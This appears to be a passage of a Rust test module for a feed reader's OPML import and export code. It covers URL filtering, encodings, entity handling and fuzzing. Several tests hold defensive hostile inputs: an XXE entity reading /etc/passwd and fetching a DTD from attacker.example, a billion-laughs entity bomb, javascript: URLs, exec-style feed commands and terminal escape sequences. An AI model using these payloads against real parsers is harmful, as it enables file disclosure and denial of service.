               <outline text="ftp" xmlUrl="ftp://example.com/feed.xml"/>
               <outline text="no host" xmlUrl="http://"/>
               <outline text="relative" xmlUrl="feed.xml"/>
               <outline text="empty" xmlUrl="   "/>
               <outline text="ok" xmlUrl="  https://ok.example/feed  "/>"#,
        ));
        assert_eq!(urls(&import), ["https://ok.example/feed"]);
        for what in [
            "|~/bin/fetch_tweets.py",
            "exec:~/bin/feed.sh",
            "filter:~/bin/f.pl:https://example.com/x",
            "javascript:alert(1)",
            "JavaScript:alert(1)",
            "query:Unread:unread = \"yes\"",
            "data:text/xml,<rss/>",
            "ftp://example.com/feed.xml",
            "feed.xml",
        ] {
            assert_eq!(reason(&import, what), "not an http(s) URL", "for {what}");
        }
        assert_eq!(reason(&import, "http://"), "invalid http(s) URL");
        assert_eq!(reason(&import, "empty"), "empty feed URL");
        assert_eq!(import.skipped.len(), 11);
    }

    #[test]
    fn file_urls_only_when_allowed() {
        let doc = opml(
            r#"<outline text="file" xmlUrl="file:///home/me/feed.xml"/>
               <outline text="path" xmlUrl="/home/me/other%20feed.xml"/>
               <outline text="remote file" xmlUrl="file://server/share/feed.xml"/>
               <outline text="web" xmlUrl="https://example.com/feed"/>"#,
        );
        let strict = parse_opml(doc.as_bytes(), false).expect("parses");
        assert_eq!(urls(&strict), ["https://example.com/feed"]);
        assert!(reason(&strict, "file:///home/me/feed.xml").starts_with("file:// URL"));
        assert!(reason(&strict, "/home/me/other%20feed.xml").starts_with("local file path"));

        let local = parse_opml(doc.as_bytes(), true).expect("parses");
        assert_eq!(
            urls(&local),
            [
                "file:///home/me/feed.xml",
                "file:///home/me/other%2520feed.xml",
                "https://example.com/feed",
            ]
        );
        assert_eq!(
            reason(&local, "file://server/share/feed.xml"),
            "unusable file:// URL"
        );
    }

    #[test]
    fn odd_attribute_cases_and_url_attribute() {
        let import = parse(&opml(
            r#"<OUTLINE TEXT="Upper" XMLURL="https://upper.example/" HTMLURL="https://upper.example/site"/>
               <outline text="lj" xmlURL="https://lj.example/"/>
               <outline Title="Mixed" xmlurl="https://lower.example/"/>
               <outline text="url attr" type="RSS" url="https://url.example/feed"/>
               <outline text="atom url" type="atom" url="https://atom.example/feed"/>
               <outline text="sublist" type="link" url="https://lists.example/more.opml"/>
               <outline text="include" type="include" url="https://lists.example/inc.opml"/>
               <outline text="page" url="https://not-a-feed.example/"/>
               <outline text="no url" type="rss"/>
               <outline text="site only" htmlUrl="https://site.example/"/>
               <outline text="site, empty feed" xmlUrl="" htmlUrl="https://site2.example/"/>
               <outline text="just a note"/>"#,
        ));
        assert_eq!(
            urls(&import),
            [
                "https://upper.example/",
                "https://lj.example/",
                "https://lower.example/",
                "https://url.example/feed",
                "https://atom.example/feed",
            ]
        );
        let upper = feed(&import, "https://upper.example/");
        assert_eq!(upper.title.as_deref(), Some("Upper"));
        assert_eq!(
            upper.site_link.as_deref(),
            Some("https://upper.example/site")
        );
        assert_eq!(
            feed(&import, "https://lower.example/").title.as_deref(),
            Some("Mixed")
        );
        assert!(reason(&import, "https://lists.example/more.opml").contains("not followed"));
        assert!(reason(&import, "https://lists.example/inc.opml").contains("not followed"));
        assert_eq!(reason(&import, "no url"), "no feed URL");
        assert!(reason(&import, "https://site.example/").contains("only a website"));
        assert!(reason(&import, "https://site2.example/").contains("only a website"));
        assert_eq!(import.skipped.len(), 5, "{:?}", import.skipped);
    }

    #[test]
    fn title_falls_back_to_text_and_site_links_are_checked() {
        let import = parse(&opml(
            r#"<outline title="" text="From text" xmlUrl="https://a.example/" htmlUrl="javascript:alert(1)"/>
               <outline title="From title" text="not this" xmlUrl="https://b.example/" htmlUrl=" http://b.example "/>
               <outline xmlUrl="https://c.example/" htmlUrl=""/>"#,
        ));
        let a = feed(&import, "https://a.example/");
        assert_eq!(a.title.as_deref(), Some("From text"));
        assert_eq!(a.site_link, None);
        let b = feed(&import, "https://b.example/");
        assert_eq!(b.title.as_deref(), Some("From title"));
        assert_eq!(b.site_link.as_deref(), Some("http://b.example/"));
        let c = feed(&import, "https://c.example/");
        assert_eq!((c.title.as_deref(), c.site_link.as_deref()), (None, None));
    }

    #[test]
    fn titles_and_tags_are_made_one_clean_line() {
        let import = parse(&opml(
            "<outline text=\"  Fol&#10;der\u{202E}  \u{85}x \">\
               <outline title=\"A\t\tB&#13;&#10;C\u{7}\u{7F}\u{9B}[31m \u{2066}D\u{2069}  \" xmlUrl=\"https://a.example/\"/>\
             </outline>",
        ));
        let a = feed(&import, "https://a.example/");
        assert_eq!(a.title.as_deref(), Some("A B C[31m D"));
        assert_eq!(a.tags, strings(&["Fol der x"]));
        assert_eq!(clean_line("\u{1b}]0;evil\u{7} ok"), "]0;evil ok");
        assert_eq!(clean_line(" \t\n "), "");
    }

    #[test]
    fn entities_in_attributes() {
        let import = parse(&opml(
            r#"<outline text="Q&amp;A &lt;3 &quot;x&quot; &#233;&#xE9; &nbsp;&unknown; & bare"
                        xmlUrl="https://a.example/feed?x=1&amp;y=2"/>
               <outline text="raw amp" xmlUrl="https://b.example/feed?x=1&y=2"/>"#,
        ));
        let a = feed(&import, "https://a.example/feed?x=1&y=2");
        assert_eq!(a.title.as_deref(), Some("Q&A <3 \"x\" éé &unknown; & bare"));
        feed(&import, "https://b.example/feed?x=1&y=2");
        assert_eq!(
            unescape_lenient("arch&aelig;ology &Eacute;&yuml;&euro;&copy;&AELIG;"),
            "archæology Éÿ€©&AELIG;"
        );
        assert_eq!(
            unescape_lenient("&#0;&#xD800;&#x;&#12a;"),
            "&#0;&#xD800;&#x;&#12a;"
        );
    }

    #[test]
    fn doctype_and_external_entities_are_never_read() {
        let doc = r#"<?xml version="1.0"?>
<!DOCTYPE opml [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
  <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
  %remote;
  <!ENTITY inner "https://inner.example/">
]>
<opml version="1.0"><body>
  <outline text="&xxe;" xmlUrl="https://a.example/"/>
  <outline text="inner" xmlUrl="&inner;"/>
  <outline text="text &xxe; node">&xxe;</outline>
</body></opml>"#;
        let import = parse_opml(doc.as_bytes(), true).expect("parses");
        assert_eq!(urls(&import), ["https://a.example/"]);
        assert_eq!(import.feeds[0].title.as_deref(), Some("&xxe;"));
        assert_eq!(reason(&import, "&inner;"), "not an http(s) URL");
    }

    #[test]
    fn billion_laughs_returns_quickly() {
        let mut doc =
            String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE opml [\n<!ENTITY lol \"lol\">\n");
        for level in 1..=9 {
            let previous = if level == 1 {
                "lol".to_string()
            } else {
                format!("lol{}", level - 1)
            };
            let refs = format!("&{previous};").repeat(10);
            doc.push_str(&format!("<!ENTITY lol{level} \"{refs}\">\n"));
        }
        doc.push_str("]>\n<opml version=\"2.0\"><body>\n");
        for _ in 0..1000 {
            doc.push_str("<outline text=\"&lol9;\" title=\"&lol9;&lol9;\" xmlUrl=\"https://a.example/&lol9;\"/>\n");
        }
        doc.push_str("<outline text=\"&lol9;\">&lol9;&lol9;</outline>\n</body></opml>\n");

        let started = Instant::now();
        let result = parse_opml(doc.as_bytes(), false);
        assert!(started.elapsed() < Duration::from_secs(5));
        if let Ok(import) = result {
            assert!(import.feeds.len() <= 1);
            for entry in &import.feeds {
                assert!(entry.title.as_deref().is_none_or(|t| t.len() < 100));
                assert!(entry.url.len() < 100);
            }
        }
    }

    #[test]
    fn deep_nesting_and_many_feeds_stay_cheap() {
        let depth = 100_000;
        let mut doc = String::from("<opml><body>");
        for level in 0..depth {
            doc.push_str(&format!("<outline text=\"f{level}\">"));
        }
        for n in 0..2_000 {
            doc.push_str(&format!(
                "<outline xmlUrl=\"https://a.example/{n}\" category=\"{}\"/>",
                "/x,".repeat(100)
            ));
        }
        doc.push_str(&"</outline>".repeat(depth));
        doc.push_str("</body></opml>");
        let started = Instant::now();
        let import = parse(&doc);
        assert!(started.elapsed() < Duration::from_secs(10));
        assert_eq!(import.feeds.len(), 2_000);
        assert!(import.feeds.iter().all(|f| f.tags.len() == MAX_TAGS));
        assert_eq!(import.feeds[0].tags.first().map(String::as_str), Some("f0"));
    }

    #[test]
    fn malformed_xml_is_an_error_with_a_position() {
        let cases = [
            "<opml><body><outline text=\"a\"></body></opml>",
            "<opml version=\"2.0\">\n<body>\n<outline xmlUrl=\"https://a.example/\"/>\n",
            "<opml><body><outline xmlUrl=\"https://a.example/></body></opml>",
            "<opml><body><outline xmlUrl=https://a.example/ /></body></opml>",
            "<opml><body></outline></body></opml>",
            "<opml><body><!-- never closed",
            "<opml><body><outline",
        ];
        for doc in cases {
            match parse_opml(doc.as_bytes(), false) {
                Err(OpmlError::Xml(message)) => {
                    assert!(message.starts_with("line "), "{message}");
                }
                other => panic!("{doc:?} gave {other:?}"),
            }
        }
        let Err(error) = parse_opml(cases[1].as_bytes(), false) else {
            panic!("truncated document parsed");
        };
        assert_eq!(
            error.to_string(),
            "the OPML file is not well-formed XML: line 2, column 1: <body> is never closed (the file ends too early)"
        );
    }

    #[test]
    fn documents_that_are_not_opml() {
        let cases: [&[u8]; 8] = [
            b"",
            b"   \n",
            b"<?xml version=\"1.0\"?>\n",
            b"<html><body><outline xmlUrl=\"https://a.example/\"/></body></html>",
            b"<not-opml version=\"1.0\"><body/></not-opml>",
            b"<opml version=\"1.0\"><head><title>no body</title></head></opml>",
            b"<opml version=\"1.0\"/>",
            b"<rss version=\"2.0\"><channel/></rss>",
        ];
        for doc in cases {
            let result = parse_opml(doc, false);
            assert!(
                matches!(result, Err(OpmlError::NotOpml)),
                "{:?} gave {result:?}",
                String::from_utf8_lossy(doc)
            );
        }
        assert_eq!(
            OpmlError::NotOpml.to_string(),
            "not an OPML subscription list (no <opml> root element with a <body>)"
        );
    }

    #[test]
    fn lenient_structure() {
        // No version, no head, prefixed names, whitespace, outlines outside <body> ignored,
        // an empty body, junk after the root element ignored.
        let import = parse(concat!(
            "\n\n  <opml>\n<head><outline xmlUrl=\"https://head.example/\"/></head>",
            "<body>\r\n\t<x:outline xmlns:x=\"urn:x\" xmlUrl=\"https://a.example/\" />\n",
            "<other><outline xmlUrl=\"https://nested.example/\"/></other>\n",
            "</body>\n</opml>\n<opml><body><outline xmlUrl=\"https://after.example/\"/></body></opml>",
        ));
        assert_eq!(
            urls(&import),
            ["https://a.example/", "https://nested.example/"]
        );
        let empty = parse("<opml version=\"2.0\"><head/><body/></opml>");
        assert!(empty.feeds.is_empty() && empty.skipped.is_empty());
    }

    #[test]
    fn encodings() {
        // UTF-8 with BOM.
        let mut bom = b"\xEF\xBB\xBF".to_vec();
        bom.extend_from_slice(
            opml(r#"<outline text="Caf&#233; é" xmlUrl="https://a.example/"/>"#).as_bytes(),
        );
        let import = parse_opml(&bom, false).expect("BOM");
        assert_eq!(import.feeds[0].title.as_deref(), Some("Café é"));

        // ISO-8859-1 as declared (and its windows-1252 reading of 0x80..0x9F).
        let latin1 = b"<?xml version='1.0' encoding='ISO-8859-1'?>\r<opml><body>\
            <outline text=\"Caf\xE9 \x80\" xmlUrl=\"https://a.example/\"/></body></opml>";
        let import = parse_opml(latin1, false).expect("latin-1");
        assert_eq!(import.feeds[0].title.as_deref(), Some("Café €"));

        // No declaration and not UTF-8: read as windows-1252.
        let undeclared =
            b"<opml><body><outline text=\"na\xEFve\" xmlUrl=\"https://a.example/\"/></body></opml>";
        let import = parse_opml(undeclared, false).expect("undeclared");
        assert_eq!(import.feeds[0].title.as_deref(), Some("naïve"));

        // Declared UTF-8 with a bad byte: replaced.
        let bad = b"<?xml version=\"1.0\" encoding=\"utf-8\"?><opml><body><outline text=\"a\xFFb\" xmlUrl=\"https://a.example/\"/></body></opml>";
        let import = parse_opml(bad, false).expect("bad utf-8");
        assert_eq!(import.feeds[0].title.as_deref(), Some("a\u{FFFD}b"));

        // UTF-16, both byte orders, with BOM and without.
        let doc = opml(r#"<outline text="Ünïcödé" xmlUrl="https://a.example/"/>"#)
            .replace("UTF-8", "UTF-16");
        let le: Vec<u8> = doc.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let be: Vec<u8> = doc.encode_utf16().flat_map(u16::to_be_bytes).collect();
        for bytes in [
            [&[0xFF, 0xFE][..], &le].concat(),
            [&[0xFE, 0xFF][..], &be].concat(),
            le.clone(),
            be.clone(),
        ] {
            let import = parse_opml(&bytes, false).expect("utf-16");
            assert_eq!(import.feeds[0].title.as_deref(), Some("Ünïcödé"));
        }

        // Another encoding: fine when the document is ASCII, refused otherwise.
        let ascii = b"<?xml version=\"1.0\" encoding=\"windows-1251\"?><opml><body><outline text=\"a\" xmlUrl=\"https://a.example/\"/></body></opml>";
        assert_eq!(parse_opml(ascii, false).expect("ascii").feeds.len(), 1);
        let cyrillic = b"<?xml version=\"1.0\" encoding=\"windows-1251\"?><opml><body><outline text=\"\xcf\xf0\xe8\" xmlUrl=\"https://a.example/\"/></body></opml>";
        match parse_opml(cyrillic, false) {
            Err(OpmlError::Encoding(label)) => assert_eq!(label, "windows-1251"),
            other => panic!("{other:?}"),
        }
        assert!(matches!(
            parse_opml(b"\0\0\xFE\xFF\0\0\0<", false),
            Err(OpmlError::Encoding(_))
        ));
    }

    #[test]
    fn export_escapes_titles_and_urls() {
        let tags = strings(&["News & <Views>", "b\"q"]);
        let feeds = [ExportFeed {
            url: "https://example.com/feed?a=1&b=<2>&c=\"3\"",
            title: "Tom & Jerry <\"quoted\"> \u{1}\ttab",
            site_link: Some("https://example.com/?x=1&y=2"),
            tags: &tags,
        }];
        let xml = write_opml(&feeds);
        assert!(
            xml.contains(r#"text="Tom &amp; Jerry &lt;&quot;quoted&quot;&gt; &#9;tab""#),
            "{xml}"
        );
        assert!(
            xml.contains(
                r#"xmlUrl="https://example.com/feed?a=1&amp;b=&lt;2&gt;&amp;c=&quot;3&quot;""#
            ),
            "{xml}"
        );
        assert!(
            xml.contains(r#"htmlUrl="https://example.com/?x=1&amp;y=2""#),
            "{xml}"
        );
        assert!(
            xml.contains(
                r#"<outline text="News &amp; &lt;Views&gt;" title="News &amp; &lt;Views&gt;">"#
            ),
            "{xml}"
        );
        assert!(
            xml.contains(r#"category="/News &amp; &lt;Views&gt;,/b&quot;q""#),
            "{xml}"
        );
        assert!(
            xml.starts_with("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<opml version=\"2.0\">")
        );
        assert!(xml.contains("<title>tidings subscriptions</title>"));

        let import = parse(&xml);
        assert_eq!(import.feeds.len(), 1);
        let entry = &import.feeds[0];
        assert_eq!(
            entry.url,
            "https://example.com/feed?a=1&b=%3C2%3E&c=%223%22"
        );
        assert_eq!(entry.title.as_deref(), Some("Tom & Jerry <\"quoted\"> tab"));
        assert_eq!(
            entry.site_link.as_deref(),
            Some("https://example.com/?x=1&y=2")
        );
        assert_eq!(entry.tags, tags);
    }

    #[test]
    fn round_trip_keeps_feeds_and_tags() {
        let tech = strings(&["Tech", "Rust"]);
        let rust = strings(&["Rust"]);
        let tech_only = strings(&["Tech"]);
        let nested = strings(&["Tech/News", "Tech"]);
        let none: Vec<String> = Vec::new();
        let feeds = [
            ExportFeed {
                url: "https://this-week-in-rust.org/rss.xml",
                title: "This Week in Rust",
                site_link: Some("https://this-week-in-rust.org/"),
                tags: &tech,
            },
            ExportFeed {
                url: "https://lobste.rs/rss",
                title: "Lobsters",
                site_link: None,
                tags: &none,
            },
            ExportFeed {
                url: "https://blog.rust-lang.org/feed.xml",
                title: "Rust Blog",
                site_link: Some("https://blog.rust-lang.org/"),
                tags: &rust,
            },
            ExportFeed {
                url: "https://lwn.net/headlines/rss",
                title: "LWN.net",
                site_link: None,
                tags: &tech_only,
            },
            ExportFeed {
                url: "https://news.example/feed?x=1&y=2",
                title: "Ünïcödé & more",
                site_link: None,
                tags: &nested,
            },
        ];
        let xml = write_opml(&feeds);
        let import = parse(&xml);
        assert!(import.skipped.is_empty(), "{:?}", import.skipped);
        let expected: Vec<OpmlEntry> = feeds
            .iter()
            .map(|f| OpmlEntry {
                url: f.url.to_string(),
                title: Some(f.title.to_string()),
                site_link: f.site_link.map(str::to_string),
                tags: f.tags.to_vec(),
            })
            .collect();
        let mut got = import.feeds.clone();
        got.sort_by(|a, b| a.url.cmp(&b.url));
        let mut want = expected;
        want.sort_by(|a, b| a.url.cmp(&b.url));
        assert_eq!(got, want);
        // Folder order follows the first feed of each tag; untagged feeds stay at top level.
        assert_eq!(
            urls(&import),
            [
                "https://this-week-in-rust.org/rss.xml",
                "https://lwn.net/headlines/rss",
                "https://lobste.rs/rss",
                "https://blog.rust-lang.org/feed.xml",
                "https://news.example/feed?x=1&y=2",
            ]
        );

        let empty = write_opml(&[]);
        let import = parse(&empty);
        assert!(import.feeds.is_empty() && import.skipped.is_empty());
    }

    #[test]
    fn export_leaves_out_what_it_cannot_represent() {
        let tags = strings(&["", " ", "a,b", "c"]);
        let feeds = [ExportFeed {
            url: "https://a.example/",
            title: "",
            site_link: Some(" "),
            tags: &tags,
        }];
        let xml = write_opml(&feeds);
        assert!(
            xml.contains("<outline text=\"a,b\" title=\"a,b\">"),
            "{xml}"
        );
        assert!(xml.contains("category=\"/c\""), "{xml}");
        assert!(!xml.contains("htmlUrl"), "{xml}");
        let import = parse(&xml);
        assert_eq!(import.feeds[0].tags, strings(&["a,b", "c"]));
        assert_eq!(import.feeds[0].title, None);
    }

    #[test]
    fn fixture_newsboat_example() {
        let import = parse_opml(&fixture("newsboat/example.opml"), false).expect("parses");
        assert_eq!(import.feeds.len(), 7);
        assert!(import.skipped.is_empty());
        let mike = feed(&import, "https://blogs.example.com/~mike/.rss");
        assert_eq!(mike.tags, strings(&["Blogs", "friends"]));
        assert_eq!(mike.title.as_deref(), Some("Notes by Mike"));
        assert_eq!(
            feed(
                &import,
                "https://fred.example.com/writing/index.php?type=rss"
            )
            .tags,
            strings(&["eloquent"])
        );
        assert!(
            feed(&import, "https://example.com/feed.xml")
                .tags
                .is_empty()
        );
    }

    #[test]
    fn fixture_newsboat_category() {
        let import = parse_opml(&fixture("newsboat/category.opml"), false).expect("parses");
        assert_eq!(import.feeds.len(), 1);
        let entry = &import.feeds[0];
        assert_eq!(
            entry.url,
            "http://feeds.bbci.co.uk/news/business/rss.xml?edition=int"
        );
        assert_eq!(entry.title, None);
        assert_eq!(entry.site_link, None);
        assert_eq!(entry.tags, strings(&["tag one", "tag_two", "tag/three"]));
    }

    #[test]
    fn fixture_feedly_export() {
        let import = parse_opml(&fixture("baleen/feedly.opml"), false).expect("parses");
        assert_eq!(import.feeds.len(), 36);
        assert!(import.skipped.is_empty(), "{:?}", import.skipped);
        let wapo = feed(&import, "http://www.washingtonpost.com/rss/homepage");
        assert_eq!(
            wapo.title.as_deref(),
            Some("Washington Post: Breaking News, World, US, DC News & Analysis")
        );
        assert_eq!(wapo.tags, strings(&["news"]));
        let nyt = feed(
            &import,
            "http://www.nytimes.com/services/xml/rss/nyt/HomePage.xml",
        );
        assert_eq!(
            nyt.site_link.as_deref(),
            Some("http://www.nytimes.com/pages/index.html?partner=rss&emc=rss")
        );
        assert!(import.feeds.iter().all(|f| f.tags.len() == 1));
    }

    #[test]
    fn fixture_iso_8859_1_opml_2() {
        let import = parse_opml(&fixture("picofeed/subscriptionList.opml"), false).expect("parses");
        assert!(import.feeds.len() >= 10, "{}", import.feeds.len());
        let cnet = feed(&import, "http://news.com.com/2547-1_3-0-5.xml");
        assert_eq!(cnet.title.as_deref(), Some("CNET News.com"));
        assert_eq!(cnet.site_link.as_deref(), Some("http://news.com.com/"));
    }

    #[test]
    fn fixture_netnewswire_text_only() {
        let import =
            parse_opml(&fixture("netnewswire/SubsNoTitleAttributes.opml"), false).expect("parses");
        assert!(import.feeds.len() > 100, "{}", import.feeds.len());
        let chat = feed(
            &import,
            "http://corinnekrych.blogspot.com/feeds/posts/default",
        );
        assert_eq!(chat.title.as_deref(), Some("chat & code"));
        assert!(import.feeds.iter().all(|f| f.title.is_some()));
    }

    #[test]
    fn fixture_commafeed_without_version() {
        let import = parse_opml(&fixture("commafeed/opml_noversion.xml"), false).expect("parses");
        assert_eq!(
            import.feeds,
            vec![OpmlEntry {
                url: "https://hostname.local/commafeed/feed1.xml".to_string(),
                title: Some("feed1".to_string()),
                site_link: Some("https://hostname.local/commafeed".to_string()),
                tags: strings(&["out1"]),
            }]
        );
    }

    /// Every prefix and many byte mutations of every fixture: never a panic.
    #[test]
    fn no_panic_on_truncated_or_mutated_fixtures() {
        let mut files = Vec::new();
        collect_files(Path::new(FIXTURES), &mut files);
        let mut seed: u64 = 0x9E37_79B9_7F4A_7C15;
        let mut next = move || {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            seed
        };
        let mut runs = 0;
        for path in files.iter().filter(|p| is_list(p)) {
            let bytes = std::fs::read(path).expect("fixture");
            let step = (bytes.len() / 300).max(1);
            for end in (0..bytes.len()).step_by(step) {
                let _ = parse_opml(&bytes[..end], end % 2 == 0);
                runs += 1;
            }
            for _ in 0..300 {
                let mut mutated = bytes.clone();
                for _ in 0..4 {
                    if mutated.is_empty() {
                        break;
                    }
                    let at = (next() % mutated.len() as u64) as usize;
                    let specials = b"<>&;\"'/=\0\xFF\xC3#x \n";
                    let byte = specials[(next() % specials.len() as u64) as usize];
                    match next() % 3 {
                        0 => mutated[at] = byte,
                        1 => mutated.insert(at, byte),
                        _ => {
                            mutated.remove(at);
                        }
                    }
                }
                let _ = parse_opml(&mutated, true);
                runs += 1;
            }
        }
        assert!(runs > 1000, "{runs}");
    }

    fn is_list(path: &Path) -> bool {
        matches!(
            path.extension().and_then(|e| e.to_str()),
            Some("opml" | "xml")
        )
    }

    fn collect_files(dir: &Path, out: &mut Vec<std::path::PathBuf>) {
        let Ok(entries) = std::fs::read_dir(dir) else {
            return;
        };
        let mut entries: Vec<_> = entries.filter_map(Result::ok).map(|e| e.path()).collect();
        entries.sort();
        for path in entries {
            if path.is_dir() {
                collect_files(&path, out);
            } else {
                out.push(path);
            }
        }
    }

    /// Every `*.opml` file of the shared corpus, and every file under its `opml/` folder (where
    /// most lists are `*.xml`), parses without a panic.
    #[test]
    fn shared_corpus_never_panics() {
        let root = Path::new(CORPUS);
        if !root.is_dir() {
            println!("skipped: ../shared not present");
            return;
        }
        let mut files = Vec::new();
        collect_files(root, &mut files);
        let opml_dir = root.join("opml");
        let lists: Vec<_> = files
            .into_iter()
            .filter(|p| {
                p.extension().is_some_and(|e| e == "opml")
                    || (p.starts_with(&opml_dir) && is_list(p))
            })
            .collect();
        let (mut ok, mut failed, mut feeds, mut skipped) = (0, 0, 0, 0);
        for path in &lists {
            let Ok(bytes) = std::fs::read(path) else {
                continue;
            };
            match parse_opml(&bytes, true) {
                Ok(import) => {
                    ok += 1;
                    feeds += import.feeds.len();
                    skipped += import.skipped.len();
                }
                Err(_) => failed += 1,
            }
        }
        println!(
            "corpus: {} lists, {ok} read ({feeds} feeds, {skipped} skipped outlines), {failed} refused",
            lists.len()
        );
        assert!(lists.len() >= 10);
        assert!(ok > failed);
    }
}
